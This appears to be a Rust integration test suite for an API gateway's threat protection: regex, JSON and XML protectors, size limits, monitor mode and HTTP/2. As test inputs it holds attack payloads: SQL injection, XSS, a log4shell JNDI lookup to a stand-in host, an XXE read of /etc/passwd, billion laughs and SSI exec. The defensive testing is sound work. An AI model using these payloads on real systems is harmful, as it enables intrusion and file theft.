//! Threat protection through the real gateway: the regex protector on the path, the query,
//! the headers and the body (encoded payloads included), the JSON and XML protectors, the URI,
//! header and body limits, monitor mode, and the same answers on both exchanges. The upstream
//! never sees a refused request whose body was read before connecting (a declared length up
//! to 64 KiB), and never a byte of any refused body.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;
use common::*;
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

fn config(up: &str, fast: bool) -> String {
    format!(
        r#"server: {{ threads: 1, upstream_fast_path: {fast} }}
access_log: {{ enabled: false }}
listeners: [{{ address: "127.0.0.1:{{port}}" }}]
admin: {{ address: "127.0.0.1:{{admin}}" }}
threat_protection:
  mode: enforce
  limits: {{ max_uri_length: 512B, max_header_size: 4KiB, max_headers: 20 }}
  regex: {{ patterns: default, scan: [path, query, headers] }}
apis:
  - {{ name: svc, context: /svc, version: v1, endpoint: {{ targets: [{{ url: "{up}" }}] }}, resources: [{{ path: "/*", methods: [ANY] }}] }}
  - name: mon
    context: /mon
    version: v1
    endpoint: {{ targets: [{{ url: "{up}" }}] }}
    threat_protection: {{ mode: monitor, regex: {{ add: [{{ name: no-tabs, pattern: "\\t" }}] }} }}
    resources: [{{ path: "/*", methods: [ANY] }}]
"#
    )
}

fn send(gw: &TestGateway, target: &str, fields: &str) -> (u16, serde_json::Value) {
    let mut s = connect(gw);
    std::io::Write::write_all(&mut s, format!("GET {target} HTTP/1.1\r\nHost: x\r\n{fields}\r\n").as_bytes()).unwrap();
    let (head, body) = read_response(&mut s, &mut Vec::new());
    (head[9..12].parse().unwrap(), serde_json::from_slice(&body).unwrap_or(serde_json::Value::Null))
}

#[tokio::test(flavor = "multi_thread")]
async fn the_regex_protector_and_the_limits_refuse_before_the_upstream_on_both_exchanges() {
    let up = TestUpstream::start("a").await;
    let many: String = (0..25).map(|i| format!("x-h{i}: v\r\n")).collect();
    let long = format!("/svc/v1/{}", "a".repeat(600));
    let rows: Vec<(&str, String, String, u16, &str, &str)> = vec![
        ("a query", "/svc/v1/items?q=1+UNION+SELECT+password+FROM+users".into(), String::new(), 400, "regex", "sql.union_select"),
        ("an encoded path", "/svc/v1/%3Cscript%3Ealert(1)".into(), String::new(), 400, "regex", "xss.script_tag"),
        ("a header", "/svc/v1/items".into(), "x-note: <img src=x onerror=alert(1)>\r\n".into(), 400, "regex", "xss.event_handler"),
        ("a log4shell header", "/svc/v1/items".into(), "user-agent: ${jndi:ldap://evil/a}\r\n".into(), 400, "regex", "code.jndi_lookup"),
        ("a long target", long.clone(), String::new(), 414, "limits", "max_uri_length"),
        ("many headers", "/svc/v1/items".into(), many.clone(), 431, "limits", "max_headers"),
        ("large headers", "/svc/v1/items".into(), format!("x-big: {}\r\n", "b".repeat(5000)), 431, "limits", "max_header_size"),
    ];
    let mut answers = Vec::new();
    for fast in [true, false] {
        let gw = TestGateway::start(&config(&up.url(), fast));
        let before = up.hits.load(Ordering::SeqCst);
        let mut these = Vec::new();
        for (what, target, fields, status, protector, rule) in &rows {
            let (got, problem) = send(&gw, target, fields);
            assert_eq!(got, *status, "{what} (fast path {fast}): {problem}");
            assert_eq!(problem["protector"], *protector, "{what}");
            assert_eq!(problem["rule"], *rule, "{what}");
            assert!(!problem.to_string().contains("script>"), "the payload is never echoed: {problem}");
            these.push(problem["detail"].clone());
        }
        assert_eq!(up.hits.load(Ordering::SeqCst), before, "no refused request reached the upstream");
        // Benign lookalikes pass.
        for target in ["/svc/v1/customers?name=O%27Brien", "/svc/v1/search?q=select+a+size+and+drop+it", "/svc/v1/a/b.json?x=1&y=2"] {
            assert_eq!(send(&gw, target, "x-note: Tom & Jerry\r\n").0, 200, "{target}");
        }
        assert_eq!(
            metric(&gw, "gateway_threat_detections_total{action=\"blocked\",api=\"svc\",protector=\"regex\",rule=\"sql.union_select\"}")
                .await,
            1
        );
        answers.push(these);
    }
    assert_eq!(answers[0], answers[1], "the lane and Pingora's path answer alike");
}

#[tokio::test(flavor = "multi_thread")]
async fn monitor_mode_lets_requests_through_and_counts_them() {
    let up = TestUpstream::start("a").await;
    let gw = TestGateway::start(&config(&up.url(), true));
    assert_eq!(send(&gw, "/mon/v1/items?q=1+UNION+SELECT+x", "").0, 200);
    assert_eq!(send(&gw, "/mon/v1/items", "x-note: a\tb\r\n").0, 200);
    assert_eq!(up.hits.load(Ordering::SeqCst), 2);
    assert_eq!(
        metric(&gw, "gateway_threat_detections_total{action=\"logged\",api=\"mon\",protector=\"regex\",rule=\"sql.union_select\"}").await,
        1
    );
    assert_eq!(metric(&gw, "gateway_threat_detections_total{action=\"logged\",api=\"mon\",protector=\"regex\",rule=\"no-tabs\"}").await, 1);
    assert!(gw.log().contains("threat detected"), "{}", gw.log());
}

/// An upstream that counts request heads and every byte after them, and answers each
/// request (Content-Length or chunked) with its body decoded, so a test sees exactly what
/// reached it.
struct Recorder {
    port: u16,
    heads: Arc<AtomicUsize>,
    body_bytes: Arc<AtomicUsize>,
}

impl Recorder {
    fn start() -> Recorder {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let (heads, body_bytes) = (Arc::new(AtomicUsize::new(0)), Arc::new(AtomicUsize::new(0)));
        let (h, b) = (heads.clone(), body_bytes.clone());
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(s) = stream else { return };
                let (h, b) = (h.clone(), b.clone());
                std::thread::spawn(move || serve_recorded(s, &h, &b));
            }
        });
        Recorder { port, heads, body_bytes }
    }

    fn url(&self) -> String {
        format!("http://127.0.0.1:{}", self.port)
    }

    fn seen(&self) -> (usize, usize) {
        (self.heads.load(Ordering::SeqCst), self.body_bytes.load(Ordering::SeqCst))
    }
}

fn serve_recorded(mut s: TcpStream, heads: &AtomicUsize, body_bytes: &AtomicUsize) {
    let mut got = Vec::new();
    let mut buf = [0u8; 16 * 1024];
    let mut fill = |s: &mut TcpStream, got: &mut Vec<u8>| -> bool {
        match s.read(&mut buf) {
            Ok(0) | Err(_) => false,
            Ok(n) => {
                got.extend_from_slice(&buf[..n]);
                true
            }
        }
    };
    loop {
        let end = loop {
            if let Some(i) = got.windows(4).position(|w| w == b"\r\n\r\n") {
                break i + 4;
            }
            if !fill(&mut s, &mut got) {
                return;
            }
        };
        heads.fetch_add(1, Ordering::SeqCst);
        let head = String::from_utf8_lossy(&got[..end]).to_ascii_lowercase();
        got.drain(..end);
        // Every byte after the head counts, even if the request never completes.
        body_bytes.fetch_add(got.len(), Ordering::SeqCst);
        let mut body = Vec::new();
        if head.contains("transfer-encoding: chunked") {
            loop {
                let line = loop {
                    if let Some(i) = got.windows(2).position(|w| w == b"\r\n") {
                        break i;
                    }
                    let before = got.len();
                    if !fill(&mut s, &mut got) {
                        return;
                    }
                    body_bytes.fetch_add(got.len() - before, Ordering::SeqCst);
                };
                let size = usize::from_str_radix(std::str::from_utf8(&got[..line]).unwrap().trim(), 16).unwrap();
                got.drain(..line + 2);
                while got.len() < size + 2 {
                    let before = got.len();
                    if !fill(&mut s, &mut got) {
                        return;
                    }
                    body_bytes.fetch_add(got.len() - before, Ordering::SeqCst);
                }
                body.extend_from_slice(&got[..size]);
                got.drain(..size + 2);
                if size == 0 {
                    break;
                }
            }
        } else if let Some(len) = head.lines().find_map(|l| l.strip_prefix("content-length: ")).map(|v| v.trim().parse::<usize>().unwrap())
        {
            while got.len() < len {
                let before = got.len();
                if !fill(&mut s, &mut got) {
                    return;
                }
                body_bytes.fetch_add(got.len() - before, Ordering::SeqCst);
            }
            body = got.drain(..len).collect();
        }
        let expect = if head.contains("\r\nexpect:") { "yes" } else { "no" };
        let answer = format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\nX-Saw-Expect: {expect}\r\n\r\n", body.len());
        if s.write_all(answer.as_bytes()).and_then(|_| s.write_all(&body)).is_err() {
            return;
        }
    }
}

fn body_config(up: &str, fast: bool) -> String {
    format!(
        r#"server: {{ threads: 1, upstream_fast_path: {fast}, client_body_timeout: 1s }}
access_log: {{ enabled: false }}
listeners: [{{ address: "127.0.0.1:{{port}}" }}]
admin: {{ address: "127.0.0.1:{{admin}}" }}
threat_protection:
  limits: {{ max_body_size: 512KiB }}
  json: {{ max_depth: 8, max_string_length: 16KiB }}
  xml: {{ max_depth: 8 }}
apis:
  - {{ name: svc, context: /svc, version: v1, endpoint: {{ targets: [{{ url: "{up}" }}] }}, resources: [{{ path: "/*", methods: [ANY] }}] }}
  - name: mon
    context: /mon
    version: v1
    endpoint: {{ targets: [{{ url: "{up}" }}] }}
    threat_protection: {{ mode: monitor }}
    resources: [{{ path: "/*", methods: [ANY] }}]
"#
    )
}

/// Sends a POST with a Content-Length body (or chunked, in `chunks` pieces) and reads the
/// final answer: (status, head, body).
fn post(gw: &TestGateway, path: &str, ct: &str, body: &[u8], chunks: Option<usize>) -> (u16, String, Vec<u8>) {
    let mut s = connect(gw);
    let framing = match chunks {
        None => format!("Content-Length: {}", body.len()),
        Some(_) => "Transfer-Encoding: chunked".to_string(),
    };
    let head = format!("POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: {ct}\r\n{framing}\r\n\r\n");
    let mut wire = head.into_bytes();
    match chunks {
        None => wire.extend_from_slice(body),
        Some(n) => {
            for piece in body.chunks(body.len().div_ceil(n.max(1)).max(1)) {
                wire.extend_from_slice(format!("{:x}\r\n", piece.len()).as_bytes());
                wire.extend_from_slice(piece);
                wire.extend_from_slice(b"\r\n");
            }
            wire.extend_from_slice(b"0\r\n\r\n");
        }
    }
    // The gateway may answer (and close) before the whole body is written: that is the
    // point of refusing early, so a failed write is not an error here.
    let _ = s.write_all(&wire);
    let (head, body) = read_response(&mut s, &mut Vec::new());
    (head[9..12].parse().unwrap(), head, body)
}

fn problem(body: &[u8]) -> (String, String) {
    let v: serde_json::Value = serde_json::from_slice(body).unwrap_or_default();
    (v["protector"].as_str().unwrap_or("").to_string(), v["rule"].as_str().unwrap_or("").to_string())
}

#[tokio::test(flavor = "multi_thread")]
async fn each_body_protector_refuses_before_the_upstream_sees_the_request_on_both_exchanges() {
    let up = Recorder::start();
    let laughs = r#"<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">]><lolz>&lol2;</lolz>"#;
    let xxe = r#"<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>"#;
    let rows: Vec<(&str, &str, String, u16, &str, &str)> = vec![
        ("deep JSON", "application/json", format!("{}1{}", "[".repeat(20), "]".repeat(20)), 400, "json", "json.max_depth"),
        ("malformed JSON", "application/json", r#"{"a": 1,}"#.into(), 400, "json", "json.malformed"),
        (
            "a long JSON string",
            "application/vnd.api+json",
            format!(r#"{{"a":"{}"}}"#, "x".repeat(20_000)),
            400,
            "json",
            "json.max_string_length",
        ),
        ("an escaped script in JSON", "application/json", r#"{"bio":"\u003cscript\u003ealert(1)"}"#.into(), 400, "regex", "xss.script_tag"),
        ("billion laughs", "application/xml", laughs.into(), 400, "xml", "xml.dtd"),
        ("XXE", "text/xml", xxe.into(), 400, "xml", "xml.dtd"),
        ("deep XML", "application/soap+xml", format!("{}x{}", "<a>".repeat(12), "</a>".repeat(12)), 400, "xml", "xml.max_depth"),
        ("a form injection", "application/x-www-form-urlencoded", "user=x%27+OR+%271%27%3D%271".into(), 400, "regex", "sql.tautology"),
        ("a plain-text SSI", "text/plain", "<!--#exec cmd=\"id\"-->".into(), 400, "regex", "ssi.directive"),
    ];
    let benign: Vec<(&str, String)> = vec![
        ("application/json", r#"{"name":"O'Brien","note":"select the \"drop\" option","url":"https://example.com/a?b=1&c=2","n":[1,2.5e3,-0.1,true,null]}"#.into()),
        ("text/xml", r#"<?xml version="1.0"?><soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body><m:GetPrice xmlns:m="urn:shop"><m:Item>Tom &amp; Jerry</m:Item></m:GetPrice></soap:Body></soap:Envelope>"#.into()),
        ("application/x-www-form-urlencoded", "name=O%27Brien&q=select+a+size".into()),
        ("application/octet-stream", "\u{1}\u{2}binary-ish, drop table in prose only".into()),
    ];
    let mut answers = Vec::new();
    for fast in [true, false] {
        let gw = TestGateway::start(&body_config(&up.url(), fast));
        let before = up.seen();
        let mut these = Vec::new();
        for (what, ct, body, status, protector, rule) in &rows {
            let (got, _, reply) = post(&gw, "/svc/v1/orders", ct, body.as_bytes(), None);
            assert_eq!(got, *status, "{what} (fast path {fast}): {}", String::from_utf8_lossy(&reply[..reply.len().min(300)]));
            assert_eq!(problem(&reply), (protector.to_string(), rule.to_string()), "{what}");
            assert!(!String::from_utf8_lossy(&reply).contains("lol") && !String::from_utf8_lossy(&reply).contains("passwd"), "no echo");
            let mut v: serde_json::Value = serde_json::from_slice(&reply).unwrap();
            v.as_object_mut().unwrap().remove("request_id");
            these.push(v);
        }
        assert_eq!(up.seen(), before, "the upstream saw none of the refused requests (fast path {fast})");
        for (ct, body) in &benign {
            let (got, _, reply) = post(&gw, "/svc/v1/orders", ct, body.as_bytes(), None);
            assert_eq!(got, 200, "{ct} (fast path {fast})");
            assert!(reply == body.as_bytes(), "{ct} (fast path {fast}) arrives intact");
        }
        assert_eq!(
            metric(&gw, "gateway_threat_detections_total{action=\"blocked\",api=\"svc\",protector=\"json\",rule=\"json.max_depth\"}").await,
            1
        );
        answers.push(these);
    }
    // Request ids differ; everything else in the problems is the same on both exchanges.
    assert_eq!(answers[0], answers[1]);
}

#[tokio::test(flavor = "multi_thread")]
async fn large_and_chunked_bodies_are_held_back_whole_and_no_byte_of_a_refused_one_reaches_the_upstream() {
    let up = Recorder::start();
    let gw = TestGateway::start(&body_config(&up.url(), true));
    // 200 KiB of valid JSON: past the read-before-connect size, so held in Pingora's body
    // phase; it arrives whole and unchanged, with either framing.
    let item = r#"{"sku":"A-1","qty":2,"note":"plain text"},"#;
    let mut big = String::from("[");
    while big.len() < 200 * 1024 {
        big.push_str(item);
    }
    big.push_str(r#"{"sku":"end"}]"#);
    for chunks in [None, Some(7)] {
        let (status, _, reply) = post(&gw, "/svc/v1/bulk", "application/json", big.as_bytes(), chunks);
        assert_eq!(status, 200, "{chunks:?}");
        assert_eq!(reply.len(), big.len(), "{chunks:?}");
        assert!(reply == big.as_bytes(), "{chunks:?}: the body arrived unchanged");
    }
    // The same body broken at its very end: the upstream request was started (the head went),
    // but not one byte of the body.
    let broken = format!("{}{}", &big[..big.len() - 1], ",]");
    for chunks in [None, Some(5), Some(1)] {
        let before = up.seen();
        let (status, _, reply) = post(&gw, "/svc/v1/bulk", "application/json", broken.as_bytes(), chunks);
        assert_eq!(status, 400, "{chunks:?}: {}", String::from_utf8_lossy(&reply));
        assert_eq!(problem(&reply), ("json".into(), "json.malformed".into()));
        let after = up.seen();
        assert_eq!(after.1, before.1, "{chunks:?}: no body byte reached the upstream");
    }
    // A declared body over limits.max_body_size: 413 before a byte is read or sent.
    let before = up.seen();
    let mut s = connect(&gw);
    s.write_all(b"POST /svc/v1/bulk HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 600000\r\n\r\n").unwrap();
    let (head, reply) = read_response(&mut s, &mut Vec::new());
    assert!(head.starts_with("http/1.1 413"), "{head}");
    assert_eq!(problem(&reply), ("limits".into(), "max_body_size".into()));
    // A chunked one that grows past it: 413 too; what was held never went upstream.
    let huge = "x".repeat(600 * 1024);
    let (status, _, reply) = post(&gw, "/svc/v1/bulk", "text/plain", huge.as_bytes(), Some(40));
    assert_eq!(status, 413, "{}", String::from_utf8_lossy(&reply));
    assert_eq!(problem(&reply), ("limits".into(), "max_body_size".into()));
    assert_eq!(up.seen().1, before.1, "no byte of the oversized bodies reached the upstream");
    assert_eq!(
        metric(&gw, "gateway_threat_detections_total{action=\"blocked\",api=\"svc\",protector=\"json\",rule=\"json.malformed\"}").await,
        3
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn monitor_mode_forwards_a_flagged_body_unchanged_and_counts_it() {
    let up = Recorder::start();
    let gw = TestGateway::start(&body_config(&up.url(), true));
    let deep = format!("{}1{}", "[".repeat(40), "]".repeat(40));
    for chunks in [None, Some(3)] {
        let (status, _, reply) = post(&gw, "/mon/v1/x", "application/json", deep.as_bytes(), chunks);
        assert_eq!((status, reply), (200, deep.clone().into_bytes()), "{chunks:?}");
    }
    assert_eq!(
        metric(&gw, "gateway_threat_detections_total{action=\"logged\",api=\"mon\",protector=\"json\",rule=\"json.max_depth\"}").await,
        2
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_client_that_stops_sending_its_body_is_timed_out_and_expect_continue_is_answered() {
    let up = Recorder::start();
    for fast in [true, false] {
        let gw = TestGateway::start(&body_config(&up.url(), fast));
        let before = up.seen();
        let mut s = connect(&gw);
        s.write_all(b"POST /svc/v1/x HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{\"a\":").unwrap();
        let started = Instant::now();
        let (head, _) = read_response(&mut s, &mut Vec::new());
        assert!(head.starts_with("http/1.1 408"), "fast path {fast}: {head}");
        let waited = started.elapsed();
        assert!(waited >= Duration::from_millis(900) && waited < Duration::from_secs(4), "{waited:?}");
        assert_eq!(up.seen(), before, "the upstream never saw the stalled request");

        // `Expect: 100-continue`: the gateway answers 100, reads and checks the body, and does
        // not pass the expectation on.
        let mut s = connect(&gw);
        s.write_all(
            b"POST /svc/v1/x HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 8\r\nExpect: 100-continue\r\n\r\n",
        )
        .unwrap();
        let mut rest = Vec::new();
        let (interim, _) = read_response(&mut s, &mut rest);
        assert!(interim.starts_with("http/1.1 100"), "{interim}");
        s.write_all(b"{\"a\":1}\n").unwrap();
        let (head, body) = read_response(&mut s, &mut rest);
        assert!(head.starts_with("http/1.1 200") && head.contains("x-saw-expect: no"), "{head}");
        assert_eq!(body, b"{\"a\":1}\n");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn bodies_over_http2_are_judged_the_same_way() {
    let up = Recorder::start();
    let pki = TestPki::new();
    let cfg = format!(
        "access_log: {{ enabled: false }}\nlisteners:\n  - address: \"127.0.0.1:{{port}}\"\n    tls: {{ cert: \"{}\", key: \"{}\" }}\nadmin: {{ address: \"127.0.0.1:{{admin}}\" }}\nthreat_protection: {{ json: {{ max_depth: 8 }} }}\napis:\n  - {{ name: svc, context: /svc, version: v1, endpoint: {{ targets: [{{ url: \"{}\" }}] }}, resources: [{{ path: \"/*\", methods: [ANY] }}] }}\n",
        pki.cert_path.display(),
        pki.key_path.display(),
        up.url()
    );
    let gw = TestGateway::start(&cfg);
    let ca = reqwest::Certificate::from_pem(pki.ca_pem.as_bytes()).unwrap();
    let h2 = reqwest::Client::builder().no_proxy().tls_certs_only([ca]).build().unwrap();
    let url = format!("https://localhost:{}/svc/v1/orders", gw.port);
    let post = |body: String| h2.post(&url).header("content-type", "application/json").body(body).send();

    let before = up.seen();
    let r = post(format!("{}1{}", "[".repeat(20), "]".repeat(20))).await.unwrap();
    assert_eq!((r.version(), r.status().as_u16()), (reqwest::Version::HTTP_2, 400));
    let v: serde_json::Value = r.json().await.unwrap();
    assert_eq!((v["protector"].as_str(), v["rule"].as_str()), (Some("json"), Some("json.max_depth")));
    assert_eq!(up.seen(), before, "the upstream saw nothing of a refused small body");

    // A small valid body, and one past the read-before-connect size (80 KiB), arrive unchanged.
    let row = format!("[{}1]", "1,".repeat(5000));
    let big = |rows: usize| format!("[{}]", vec![row.as_str(); rows].join(","));
    for body in [big(1), big(8)] {
        let r = post(body.clone()).await.unwrap();
        assert_eq!(r.status(), 200, "{}", body.len());
        assert!(r.bytes().await.unwrap() == body.as_bytes(), "{}: the body arrived unchanged", body.len());
    }
    // A large body broken at its end: refused; no byte of it went upstream.
    let before = up.seen();
    let broken = big(8);
    let r = post(format!("{},]", &broken[..broken.len() - 1])).await.unwrap();
    assert_eq!(r.status(), 400);
    assert_eq!(problem(&r.bytes().await.unwrap()), ("json".into(), "json.malformed".into()));
    assert_eq!(up.seen().1, before.1, "no body byte reached the upstream");
}
